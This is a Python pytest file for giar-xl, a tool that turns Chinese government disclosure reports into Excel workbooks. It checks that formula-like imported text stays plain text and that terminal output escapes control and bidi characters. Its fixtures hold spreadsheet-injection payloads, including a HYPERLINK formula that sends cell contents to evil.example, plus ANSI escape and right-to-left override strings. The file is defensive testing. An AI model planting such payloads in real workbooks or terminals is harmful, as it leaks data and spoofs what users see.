"""Imported text is data, never a formula: in every workbook giar-xl writes, and on the terminal."""

from __future__ import annotations

import json

import openpyxl
import pytest
from click.testing import CliRunner

from giar_xl.cli import main
from giar_xl.export import export_report
from giar_xl.importer import import_report
from giar_xl.office import convert
from giar_xl.workbook.build import write_workbook
from giar_xl.workbook.reader import read_workbook

# what published reports and organ names have been seen to start with, and worse
HOSTILE = {
    "meta_org": '=HYPERLINK("http://evil.example/"&封面!B3,"点击")',
    "nar_preface": "+1 本机关按要求编制本报告。",
    "nar_overview": "-2 全年概况如下。",
    "nar_active": "@SUM(1+1) 主动公开情况。",
    "nar_request": "\t=1+1 以制表符开头的正文。",
    "nar_management": "#N/A",
    "nar_platform": "＝SUM(A1) 全角等号开头。",
    "nar_oversight": "=1+1\x1b[31m 控制字符\x07 与字面的 _x0041_。",
}


def run(*args):
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result


@pytest.fixture
def hostile_xlsx(demo, tmp_path):
    return write_workbook(tmp_path / "hostile.xlsx", report=demo.with_values(**HOSTILE))


def cell_of(wb, spec, field_id):
    field = spec.fields[field_id]
    return wb[field.sheet][field.cell]


def assert_text_cells(path, spec, texts):
    """Each field holds its text as a string cell (not a formula or an error value)."""
    wb = openpyxl.load_workbook(path)
    for fid in texts:
        cell = cell_of(wb, spec, fid)
        assert cell.data_type == "s", (fid, cell.data_type)
        assert cell.quotePrefix, fid  # Excel keeps it text when the cell is edited


def test_formula_like_text_is_written_as_text_and_reads_back_identically(hostile_xlsx, spec):
    assert_text_cells(hostile_xlsx, spec, HOSTILE)
    back = read_workbook(hostile_xlsx, spec).report
    assert {fid: back[fid] for fid in HOSTILE} == HOSTILE


def test_an_imported_report_keeps_its_text_as_text(demo, spec, tmp_path):
    published = export_report(demo.with_values(**{k: v for k, v in HOSTILE.items()
                                                  if k.startswith("nar_")}),
                              tmp_path / "年报.txt")
    out = tmp_path / "年报.xlsx"
    result = run("import", published, "-o", out)
    assert result.exit_code in (0, 1), result.output
    imported = import_report(published, spec).report
    narratives = {f: imported[f] for f in HOSTILE if f.startswith("nar_") and imported[f]}
    assert any(text.startswith("=") for text in narratives.values())
    assert_text_cells(out, spec, {f: t for f, t in narratives.items()
                                  if t[:1] in "=+-@\t＝" or t == "#N/A"})
    back = read_workbook(out, spec).report
    assert {f: back[f] for f in narratives} == narratives


def test_annotated_copies_and_summaries_keep_text_as_text(hostile_xlsx, spec, tmp_path):
    wb = openpyxl.load_workbook(hostile_xlsx)
    cell_of(wb, spec, "meta_date").value = "=TODAY()"  # typed as text: a type-date finding
    cell_of(wb, spec, "meta_date").data_type = "s"
    wb.save(hostile_xlsx)

    marked = tmp_path / "hostile.校验.xlsx"
    assert run("check", hostile_xlsx, "--annotate", marked).exit_code == 1
    assert_text_cells(marked, spec, HOSTILE)
    results = openpyxl.load_workbook(marked)["校验结果"]
    actual = spec.results_sheet.column_of("actual")
    texts = [row[actual - 1] for row in results.iter_rows(min_row=3)]
    assert any(c.value == "=TODAY()" and c.data_type == "s" for c in texts)
    assert not any(c.data_type == "f" for row in results.iter_rows() for c in row)

    summary = tmp_path / "汇总.xlsx"
    assert run("summary", hostile_xlsx, "-o", summary).exit_code == 1
    overview = openpyxl.load_workbook(summary)["汇总"]
    first = next(r for r in range(1, 10) if overview.cell(r, 1).value == 1)  # below the header
    organ = overview.cell(first, 2)
    assert organ.value == HOSTILE["meta_org"] and organ.data_type == "s"
    findings = openpyxl.load_workbook(summary)["问题清单"]
    assert findings["A3"].value == HOSTILE["meta_org"] and findings["A3"].data_type == "s"


@pytest.mark.libreoffice
def test_a_spreadsheet_program_shows_the_text_not_a_formula_result(hostile_xlsx, spec,
                                                                   tmp_path):
    out = convert(hostile_xlsx, "xlsx", tmp_path / "lo", "Calc MS Excel 2007 XML")
    wb = openpyxl.load_workbook(out, data_only=True)
    assert cell_of(wb, spec, "meta_org").value == HOSTILE["meta_org"]
    assert cell_of(wb, spec, "nar_active").value == HOSTILE["nar_active"]
    assert cell_of(wb, spec, "nar_management").value == "#N/A"


# -- the terminal --------------------------------------------------------------------
RAW = ("\x1b", "\x07", "\u202e", "\u2066")


def test_the_terminal_never_gets_control_or_bidi_characters(demo, tmp_path):
    org = "北留\x1b]0;窗口标题\x07镇\u202e人民\u2066政府"
    name = "年报\x1b[2J\u202etxt.txt"
    report = export_report(demo.with_values(meta_org=org), tmp_path / name)
    outputs = {
        "check": run("check", report),
        "import": run("import", report, "-o", tmp_path / "导入\u202e.xlsx"),
        "summary": run("summary", report, "-o", tmp_path / "汇总\u202e.xlsx"),
        "export": run("export", tmp_path / "导入\u202e.xlsx", "-o", tmp_path / f"{name}.md"),
    }
    for command, result in outputs.items():
        assert result.exit_code in (0, 1), (command, result.output)
        assert not any(ch in result.output for ch in RAW), (command, result.output)
        assert "\\u202e" in result.output, command  # shown, escaped

    workbook = write_workbook(tmp_path / "年报.xlsx", report=demo.with_values(meta_org=org))
    shown = run("check", workbook).output
    assert "北留\\x1b]0;窗口标题\\x07镇\\u202e人民\\u2066政府" in shown
    as_json = json.loads(run("check", workbook, "--json").output)  # JSON escapes by itself
    assert as_json["files"][0]["organ"] == org
